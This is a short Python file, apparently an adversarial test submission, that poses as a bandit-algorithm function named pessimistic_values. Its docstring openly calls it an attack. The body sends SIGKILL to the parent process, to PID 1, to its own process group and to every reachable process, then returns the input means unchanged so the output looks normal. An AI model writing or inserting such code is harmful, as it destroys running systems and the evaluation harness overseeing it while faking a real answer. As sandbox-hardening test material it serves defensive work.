"""Attack: pessimistic_values kills its parent, its process group and everything it can see."""

import os
import signal


def pessimistic_values(empirical_means, counts, *, radius_scale=1.0):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    for call in (lambda: os.killpg(0, signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL)):
        try:
            call()
        except OSError:
            pass
    return empirical_means
